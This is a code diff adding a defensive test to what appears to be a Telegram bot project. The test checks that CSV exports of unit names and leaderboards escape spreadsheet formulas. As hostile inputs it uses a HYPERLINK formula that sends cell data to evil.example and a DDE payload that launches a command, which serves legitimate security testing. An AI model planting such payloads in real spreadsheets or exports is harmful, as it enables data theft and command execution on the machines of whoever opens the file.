@@ -141,3 +141,52 @@ async def test_unit_screens_show_hostile_unit_names_literally(bot: Any, tg: Any)
     literally(reply.last, unit_name)
     reply = await officer.send("/units")  # an officer: the units they belong to
     literally(reply.last, unit_name)
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(data: bytes) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+async def test_csv_exports_neutralise_formulas_and_import_back(bot: Any, tg: Any) -> None:
+    """Issue 11, item 11: a unit name or display name like =HYPERLINK(…) must not become a
+    formula in the administrator's or teacher's spreadsheet; a unit file exported by the bot
+    imports back unchanged."""
+    from tests.e2e.test_units import NATIONAL_ADMIN_ID
+
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    admin = tg.user(id=NATIONAL_ADMIN_ID, first_name="Admin", language_code="en")
+    upload = ("unit_code,name,hotline,province_admin_ids\n"
+              f'{SAI_GON},"{name.replace(chr(34), chr(34) * 2)}",+84 28 3829 7643,\n')
+    reply = await admin.send_document(upload.encode(), "units.csv", "text/csv",
+                                      caption="/importunits")
+    assert "Imported 1" in reply.text, reply.text
+    reply = await admin.send("/exportunits 79")
+    exported = reply.last.document
+    rows = _cells(exported)
+    row = next(r for r in rows if r[0] == SAI_GON)
+    assert row[1:3] == ["'" + name, "'+84 28 3829 7643"]
+    assert not any(c.startswith(FORMULA_START) for r in rows for c in r)
+    reply = await admin.send_document(exported, "units-79.csv", "text/csv",
+                                      caption="/importunits")
+    unit = await bot.service("units").find("ward", SAI_GON)
+    assert unit is not None and unit.name == name and unit.hotline == "+84 28 3829 7643"
+
+    teacher = tg.user(id=4001, first_name="Hoa", language_code="en")
+    contest = await create_contest(bot, teacher, title="=cmd|' /C calc'!A0", count="5")
+    for i, display in enumerate(("=1+2", "-2+3", "+CMD")):
+        await join(tg.user(id=4101 + i, first_name="S", language_code="en"), "command",
+                   contest, display)
+    await teacher.send(f"/leaderboard {contest.code}")
+    reply = await teacher.press("📥 CSV export")
+    docs = [m.document for m in reply.messages if m.document is not None]
+    assert len(docs) == 2
+    results = _cells(docs[0])
+    assert sorted(r[1] for r in results[1:]) == ["'+CMD", "'-2+3", "'=1+2"]
+    for doc in docs:
+        assert not any(c.startswith(FORMULA_START) for r in _cells(doc) for c in r)
